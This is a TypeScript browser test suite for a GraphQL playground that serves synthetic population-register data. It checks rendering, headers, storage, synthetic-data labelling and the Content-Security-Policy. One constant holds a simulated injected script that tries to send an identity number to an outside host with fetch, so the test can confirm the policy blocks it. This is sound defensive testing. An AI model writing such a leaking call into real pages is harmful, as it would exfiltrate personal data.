import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import Fastify, { type FastifyInstance } from 'fastify';
import { buildSchema, graphql } from 'graphql';
import type { Browser } from 'playwright-core';
import { buildPlayground } from '../../../gateway/playground/build.ts';
import type { PlaygroundConfiguration } from '../../../gateway/playground/configuration.ts';
import { servePlayground } from '../../../gateway/playground/serve.ts';
import { openChromium } from '../../support/chromium.ts';
import { drivePlayground, type PlaygroundVisit } from '../../support/playground.ts';

const schema = buildSchema(`
  "Root of all questions (查询)"
  type Query {
    "A person in the population register (人口)"
    person(idNumber: String!): Person
    "An address (地址)"
    address(code: String!): Address
  }
  "A natural person (自然人)"
  type Person { idNumber: String! name: String! photo: String! }
  "A place with a code (标准地址)"
  type Address { code: String! text: String! }
`);

const registers = {
  // A picture on another host: looking at an answer must not call it.
  person: ({ idNumber }: { idNumber: string }) => ({ idNumber, name: '欧阳静宜', photo: 'https://example.com/a.png' }),
  address: ({ code }: { code: string }) => ({ code, text: '上海市徐汇区漕溪北路𡒄弄9号' }),
};

const configuration: PlaygroundConfiguration = {
  endpoint: 'graphql',
  synthetic: true,
  registries: ['population', 'spatial'],
  personas: [],
  matters: [],
  examples: [
    {
      title: 'One person (一个人)',
      query:
        'query OnePerson($idNumber: String!) {\n  person(idNumber: $idNumber) {\n    idNumber\n    name\n    photo\n  }\n}',
      variables: '{\n  "idNumber": "11010119900307758X"\n}',
      headers: '{\n  "x-purpose": "demonstration"\n}',
    },
    {
      title: 'One address (一个地址)',
      query: 'query OneAddress($code: String!) {\n  address(code: $code) {\n    code\n    text\n  }\n}',
      variables: '{\n  "code": "A1"\n}',
    },
  ],
};

/** What a script slipped into the page might try; gives the directive that refuses it. */
const leak = `new Promise((resolve) => {
  document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
  fetch('https://example.com/?idNumber=11010119900307758X').then(() => resolve('sent'), () => {});
})`;

async function startServer(purposes: unknown[]): Promise<{ app: FastifyInstance; url: string }> {
  const app = Fastify();
  const { folder } = await buildPlayground({ into: join(tmpdir(), 'mianti-test-playground') });
  await servePlayground(app, { folder, configuration });
  app.post<{ Body: { query: string; variables?: Record<string, unknown>; operationName?: string } }>(
    '/graphql',
    async ({ body, headers }) => {
      if (body.operationName !== 'IntrospectionQuery') purposes.push(headers['x-purpose']);
      const { query: source, variables: variableValues, operationName } = body;
      return graphql({ schema, rootValue: registers, source, variableValues, operationName });
    },
  );
  return { app, url: `${await app.listen({ host: '127.0.0.1', port: 0 })}/` };
}

describe('the playground in a browser', () => {
  const purposes: unknown[] = [];
  let app: FastifyInstance | undefined;
  let browser: Browser | null = null;
  let visit: PlaygroundVisit | undefined;
  let banner = '';
  let refused: unknown;

  beforeAll(async () => {
    browser = await openChromium();
    if (browser === null) return;
    const server = await startServer(purposes);
    app = server.app;
    const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
    visit = await drivePlayground(page, server.url);
    banner = await page.getByRole('note').innerText();
    refused = await page.evaluate(leak);
  });

  afterAll(async () => {
    await browser?.close();
    await app?.close();
  });

  /** Without a browser there is nothing to check; openChromium has said so, or failed where one is required. */
  function testVisit(title: string, check: (visited: PlaygroundVisit) => void): void {
    test(title, () => {
      if (visit) check(visit);
      else expect(browser).toBeNull();
    });
  }

  testVisit('opens with a tab for each example, and a click on execute shows each answer', ({ answers }) => {
    expect(answers.map(({ tab }) => tab)).toEqual(['OnePerson', 'OneAddress']);
    expect(answers.map(({ json }) => json)).toEqual([
      { data: { person: { idNumber: '11010119900307758X', name: '欧阳静宜', photo: 'https://example.com/a.png' } } },
      { data: { address: { code: 'A1', text: '上海市徐汇区漕溪北路𡒄弄9号' } } },
    ]);
  });

  testVisit('shows Chinese text in the result', ({ answers }) => {
    expect(answers[0]?.shown).toContain('"name": "欧阳静宜"');
    expect(answers[1]?.shown).toContain('𡒄弄9号');
  });

  testVisit("sends an example's headers with its operation and not with the next", () => {
    expect(purposes).toEqual(['demonstration', undefined]);
  });

  testVisit('lists the fields of the query root in the documentation', ({ documentedFields }) => {
    expect(documentedFields).toEqual(['person', 'address']);
  });

  testVisit('proposes the fields of the query root while one types', ({ proposals }) => {
    expect(proposals).toEqual(expect.arrayContaining(['person', 'address']));
  });

  testVisit('asks no other host for anything, its workers included', ({ requests, foreignRequests }) => {
    expect(foreignRequests).toEqual([]);
    for (const worker of ['editor', 'json', 'graphql']) {
      expect(requests).toContainEqual(expect.stringMatching(new RegExp(`/assets/${worker}-[A-Z0-9]+\\.js$`)));
    }
  });

  testVisit('breaks no rule of its Content-Security-Policy and reports no error', ({ problems }) => {
    expect(problems).toEqual([]);
  });

  testVisit('refuses to send an identity number to another host', () => {
    expect(refused).toBe('connect-src');
  });

  testVisit('leaves no query and no identity number in the browser', ({ stored }) => {
    expect(stored).toEqual([]);
  });

  testVisit('says that the data is synthetic', ({ title }) => {
    expect(title).toBe('Mianti 免提 · playground');
    expect(banner).toContain('Synthetic data');
  });
});
